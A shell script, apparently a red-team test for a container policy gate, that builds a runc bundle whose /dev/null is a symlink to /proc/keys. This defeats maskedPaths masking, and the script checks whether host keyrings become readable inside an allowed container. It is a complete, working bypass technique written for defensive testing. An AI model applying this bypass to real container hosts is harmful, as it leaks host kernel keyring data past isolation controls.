#!/bin/sh
# found-1: maskedPaths defeated by an image whose /dev/null is a symlink
# (spec without a tmpfs at /dev). runc 1.1 masks each masked path by
# bind-mounting the container's "/dev/null" over it; mknod of /dev/null
# hits EEXIST and is skipped, so the bind follows the image's symlink and
# "masks" /proc/keys with /proc/keys itself. The gate only checks that
# linux.maskedPaths lists /proc/kcore, /proc/keys, /sys/firmware.
# Exit 0: container allowed and /proc/keys readable (host keyrings); 1: refused.
set -u
W=$(mktemp -d /tmp/confine-redteam1.XXXXXX)
trap 'rm -rf "$W"' EXIT
SRC=${ROOT:?}; BUILD=${BUILD:?}
POL=$W/policy.json
python3 - "$SRC" "$W" <<'PY'
import json,sys,os
src,w=sys.argv[1:]
p=json.load(open(src+'/config/policy.json'))
p.update(securityfs=w+'/nosfs', hook_path=os.environ['BUILD']+'/confine-hook', cache_dir=w+'/cache', decision_log=w+'/decisions.log')
p['seccomp']['default_profile']=src+'/profiles/seccomp/default.json'
p['apparmor']['when_unavailable']='skip'
json.dump(p,open(w+'/policy.json','w'))
PY
chmod 600 $POL; mkdir -p $W/cache $W/out; chmod 700 $W/cache
B=$W/bundle; mkdir -p $B/rootfs/bin $B/rootfs/dev $B/rootfs/proc $B/rootfs/sys
cp /bin/busybox $B/rootfs/bin/; for c in sh cat grep; do ln -s busybox $B/rootfs/bin/$c; done
ln -s /proc/keys $B/rootfs/dev/null
(cd $B && runc spec)
python3 - "$B" "$W" <<'PY'
import json,sys,os
b,w=sys.argv[1:]
c=json.load(open(b+'/config.json'))
c['process']['terminal']=False
c['mounts']=[m for m in c['mounts'] if m['destination']!='/dev']
c['mounts'].append({'destination':'/out','type':'bind','source':w+'/out','options':['rbind','rw']})
c['process']['args']=['sh','-c','exec >/out/log 2>&1; grep " /proc/keys " /proc/self/mountinfo; cat /proc/keys && echo KEYS_READ']
json.dump(c,open(b+'/config.json','w'))
PY
CONFINE_POLICY=$POL $BUILD/confine-runtime --root $W/runc run -b $B f1-$$ ; rc=$?
cat $W/out/log 2>/dev/null
if [ $rc -eq 0 ] && grep -q KEYS_READ $W/out/log 2>/dev/null && grep -q keyring $W/out/log; then
  echo "ATTACK WORKED: /proc/keys unmasked inside an allowed container"; exit 0; fi
echo "gate refused or attack failed (rc=$rc)"; exit 1
